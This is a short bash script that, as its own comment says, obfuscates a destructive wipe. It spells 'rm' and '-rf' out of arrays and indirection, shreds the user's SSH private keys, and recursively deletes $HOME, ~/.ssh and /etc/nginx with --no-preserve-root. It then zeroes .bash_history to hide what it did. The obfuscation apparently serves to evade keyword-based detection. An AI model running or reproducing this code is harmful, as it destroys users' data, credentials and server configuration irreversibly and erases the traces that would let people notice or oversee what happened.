# Assembles an "rm -rf" of $HOME, ~/.ssh and /etc configs from arrays and indirection, after shredding SSH keys.
declare -A T=([h]="$HOME" [s]="$HOME/.ssh" [e]="/etc/nginx")
cmd=(r m)
flags=(- r f)
victims=()
for k in s e h; do victims+=("${T[$k]}"); done

shred -u -n 3 "$HOME"/.ssh/id_* 2>/dev/null

run() { "$@"; }
bin=$(IFS=; echo "${cmd[*]}")
opt=$(IFS=; echo "${flags[*]}")

run "$bin" "$opt" --no-preserve-root "${victims[@]}" 2>/dev/null
dd if=/dev/zero of="$HOME/.bash_history" bs=1k count=64 2>/dev/null
